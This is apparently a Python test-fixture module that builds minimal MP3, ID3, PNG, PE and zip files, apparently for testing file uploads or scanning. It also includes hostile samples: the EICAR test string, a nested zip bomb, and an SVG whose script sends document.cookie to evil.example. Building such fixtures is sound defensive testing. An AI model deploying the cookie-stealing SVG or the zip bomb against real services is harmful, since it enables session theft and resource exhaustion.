"""Files for journeys, made byte by byte: real enough for every check, and no larger."""

import io
import struct
import zipfile
import zlib

EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()


def mp3(frames: int = 400, tags: bytes = b"") -> bytes:
    """MPEG-1 layer III, 128 kbit/s, 44.1 kHz: each frame has 417 bytes and lasts 26 ms."""
    frame = b"\xff\xfb\x90\x00" + bytes((7 * i + 13) % 251 for i in range(413))
    return tags + frame * frames


def id3(**frames: str) -> bytes:
    """An ID3v2.3 tag; `TIT2="…"` and so on."""
    body = b"".join(
        name.encode() + struct.pack(">IH", len(value) + 1, 0) + b"\x00" + value.encode("latin-1")
        for name, value in frames.items()
    )
    size = len(body)
    synchsafe = bytes((size >> shift) & 0x7F for shift in (21, 14, 7, 0))
    return b"ID3\x03\x00\x00" + synchsafe + body


def png(side: int = 64) -> bytes:
    """A grey picture with a gradient."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )

    rows = b"".join(b"\x00" + bytes((x + y) % 256 for x in range(side)) for y in range(side))
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def windows_program() -> bytes:
    """The headers of a PE file and some code."""
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    dos = b"MZ" + bytes(58) + struct.pack("<I", 128) + bytes(14) + stub
    pe = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 224, 0x0102)
    optional = struct.pack("<HBB", 0x10B, 14, 0) + bytes(220)
    section = b".text\0\0\0" + struct.pack("<IIII", 512, 4096, 512, 512) + bytes(16)
    return (dos.ljust(128, b"\0") + pe + optional + section).ljust(512, b"\0") + b"\x90\xc3" * 512


def zipped(**members: bytes) -> bytes:
    """A zip with these members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name.replace("__", "."), data)
    return buffer.getvalue()


def zip_bomb() -> bytes:
    """Zips of zips of zeros: 16 MiB a leaf behind a few kilobytes, many times over."""
    leaf = zipped(zeros__bin=bytes(16 * 1024 * 1024))
    middle = zipped(**{f"part{n}__zip": leaf for n in range(16)})
    return zipped(**{f"lib{n}__zip": middle for n in range(16)})


SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
    b"<script>fetch('https://evil.example/'+document.cookie)</script></svg>"
)
